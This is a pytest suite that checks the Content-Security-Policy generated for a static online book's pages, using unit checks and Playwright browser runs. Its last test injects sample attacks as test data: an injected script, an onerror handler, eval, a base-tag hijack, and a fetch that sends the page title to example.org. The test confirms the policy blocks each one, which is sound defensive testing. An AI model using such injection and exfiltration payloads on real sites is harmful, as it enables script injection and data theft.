"""The pages' Content-Security-Policy: the whole book works under it, and nothing else runs."""

import re
from pathlib import Path
from types import SimpleNamespace

import policy
import pytest
from bs4 import BeautifulSoup
from conftest import HTML, bring_to_life, failure, parsed

from tools import mouse

#: What a browser says when a page does what its policy forbids.
LISTEN = """addEventListener('securitypolicyviolation', (event) =>
  console.error('forbidden:', event.effectiveDirective, event.blockedURI, event.sample))"""
#: Has every picture come, lazy ones, too.
PICTURES = """() => Promise.all([...document.images].map((image) => {
  image.loading = 'eager'
  return image.decode().catch(() => console.error('no picture:', image.src))
}))"""
PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>A page</title><script>let a = 1 < 2 && "é";</script>
<style>p > b {color: red}</style><script type="application/json">{"a": 1}</script></head>
<body>BODY<script src="a.js"></script></body></html>
"""
#: ``printf 'let a = 1 < 2 && "é";' | openssl dgst -sha256 -binary | base64``, and of the style.
SCRIPT_SUM = "'sha256-pzPaUqjo4WYpi+SvJZJWj6ZrqNm1nXQyZ6aj3EwlZVA='"
STYLE_SUM = "'sha256-DO9Ua4z0BIGLoTvzEfnTFvxjH/1MLWFfYzcRYJ06j9w='"
ZERO = [(0.5, 0.2), (0.3, 0.5), (0.5, 0.8), (0.7, 0.5), (0.5, 0.2)]


def protected(body: str = "", name: str = "a") -> BeautifulSoup:
    """Return the page with its policy."""
    page = BeautifulSoup(PAGE.replace("BODY", body), "html.parser")
    policy.protect(SimpleNamespace(), name, page)
    return page


def rules(page: BeautifulSoup) -> dict[str, list[str]]:
    """Return a page's policy: directive → sources."""
    meta = page.select_one('meta[http-equiv="Content-Security-Policy"]')
    assert meta
    return {rule.split()[0]: rule.split()[1:] for rule in str(meta["content"]).split(";")}


def test_inline_scripts_and_styles_are_named_by_their_checksums() -> None:
    """As they are written, not as they would be escaped in a text; data need none."""
    found = rules(protected())
    assert found["script-src"] == ["'self'", SCRIPT_SUM]
    assert found["style-src-elem"] == ["'self'", STYLE_SUM]


def test_it_comes_before_all_that_it_is_about() -> None:
    head = [tag.name for tag in protected().head.find_all(True, recursive=False)]
    assert head[:2] == ["meta", "meta"]
    assert "script" in head[2:]


def test_files_are_asked_of_the_book_only() -> None:
    assert rules(protected())["connect-src"] == ["'self'"]


def test_orders_in_attributes_end_the_build(monkeypatch) -> None:
    """But for the theme's button to print, whose order print.js takes over."""
    said: list[str] = []
    monkeypatch.setattr(policy.LOGGER, "warning", lambda text, *what: said.append(text % what))
    page = protected('<button onclick="window.print()">Print</button>')
    assert page.button.attrs == {"data-print": ""}
    assert not said
    protected('<b onmouseover="go()">x</b>', "some/page")
    assert len(said) == 1
    assert said[0].startswith("some/page: ")
    assert "onmouseover" in said[0]


def test_a_page_that_names_no_encoding_is_an_error() -> None:
    page = BeautifulSoup("<html><head></head></html>", "html.parser")
    with pytest.raises(ValueError, match="a: expected a page that names its encoding"):
        policy.protect(SimpleNamespace(), "a", page)


def pages(site: Path) -> list[str]:
    """Return the site's pages."""
    found = [path.relative_to(site).as_posix() for path in site.rglob("*.html")]
    return sorted(name for name in found if not name.startswith("_static/"))


def test_every_page_has_one(site: Path) -> None:
    for name in pages(site):
        page = parsed(site / name)
        found = rules(page)
        assert found["default-src"] == ["'none'"], name
        assert found["base-uri"] == ["'none'"], name
        allowed = {source for sources in found.values() for source in sources}
        assert "'unsafe-eval'" not in allowed
        assert "'unsafe-inline'" not in found["script-src"] + found["style-src-elem"], name
        # No other site.
        rest = {source for source in allowed if not source.startswith("'")}
        assert rest <= {"data:", "blob:"}, name
        policy_, *others = page.head.find_all(["meta", "script", "link", "style"])[1:]
        assert policy_.get("http-equiv") == "Content-Security-Policy", name
        assert others


@pytest.fixture(params=["server", "folder"])
def place(request, site: Path) -> str:
    """Return where the site begins, once on a server, once in a folder."""
    if request.param == "folder":
        return site.as_uri()
    address: str = request.getfixturevalue("address")
    return address


@pytest.fixture
def watched(browser, problems):
    """Return a page that notes what is forbidden, what fails and what is said."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    context.add_init_script(LISTEN)
    page = context.new_page()
    page.on("console", lambda m: m.type in ("error", "warning") and problems.append(m.text))
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("requestfailed", lambda request: problems.extend(failure(request)))
    yield page
    context.close()
    assert not problems, "\n".join(problems)


def test_every_page_keeps_to_it(watched, place: str) -> None:
    """Loaded with all its pictures, in both modes, scrolled to its end, and printed."""
    for name in pages(HTML):
        watched.goto(f"{place}/{name}")
        if name == "index.html":
            watched.wait_for_url(re.compile("/book/"))
        watched.wait_for_load_state("load")
        watched.evaluate("scrollTo(0, document.body.scrollHeight)")
        watched.evaluate(PICTURES)
        if name in ("book/intro.html", "book/04-cnn.html"):
            for _ in range(3):
                watched.locator(".theme-switch-button").first.click()
            watched.pdf()


def test_what_the_pages_can_do_keeps_to_it(watched, place: str) -> None:
    """Draw, learn a hand, save; train; try; copy, open, search."""
    watched.goto(f"{place}/book/draw.html")
    watched.wait_for_selector("#draw[data-ready]")
    mouse.draw(watched, ZERO, steps=6)
    watched.click(".draw-answers button:nth-child(1)")
    watched.locator(".draw-taught", has_text="It learned your 0").wait_for(timeout=120_000)
    watched.click(".draw-more")
    with watched.expect_download():
        watched.click(".draw-save")
    watched.goto(f"{place}/book/train.html")
    watched.wait_for_selector("#train[data-run]")
    watched.click(".train-start")
    watched.wait_for_function("Number(document.querySelector('#train').dataset.step) > 3")
    watched.goto(f"{place}/book/04-cnn.html")
    bring_to_life(watched)
    watched.locator(".try input[type=range]").first.press("ArrowRight")
    watched.locator(".try-cells button").first.click()
    watched.locator(".copybtn").first.click(force=True)
    watched.locator(".toggle-button, details summary").first.click()
    watched.goto(f"{place}/search.html?q=padding")
    watched.locator("#search-results li a").first.wait_for()


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("const s = document.createElement('script'); s.textContent = 'window.bad = 1';"
         "document.head.append(s)", "script-src-elem"),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.bad = 1\">')",
         "script-src-attr"),
        ("fetch('https://example.org/?' + document.title).then(() => (window.bad = 1), () => 0)",
         "connect-src"),
        ("const i = new Image(); i.onload = () => (window.bad = 1); i.src = 'https://example.org/'",
         "img-src"),
        ("const b = document.createElement('base'); b.href = 'https://example.org/';"
         "document.head.append(b); window.bad = document.baseURI.includes('example') || undefined",
         "base-uri"),
        ("try { window.bad = eval('1') } catch { }", "script-src"),
    ],
)  # fmt: skip
def test_what_got_into_a_page_is_refused(browser, place: str, attack: str, directive: str) -> None:
    page = browser.new_page()
    page.goto(f"{place}/book/glossary.html")
    page.evaluate(
        "addEventListener('securitypolicyviolation', (event) =>"
        " (globalThis.refused ??= []).push(event.effectiveDirective))"
    )
    # Later, so that it is the page that does it, and not the test.
    page.evaluate(f"setTimeout(() => {{ {attack} }})")
    page.wait_for_function("globalThis.refused")
    page.wait_for_timeout(200)
    assert directive in page.evaluate("refused")
    assert page.evaluate("globalThis.bad") is None
    page.close()
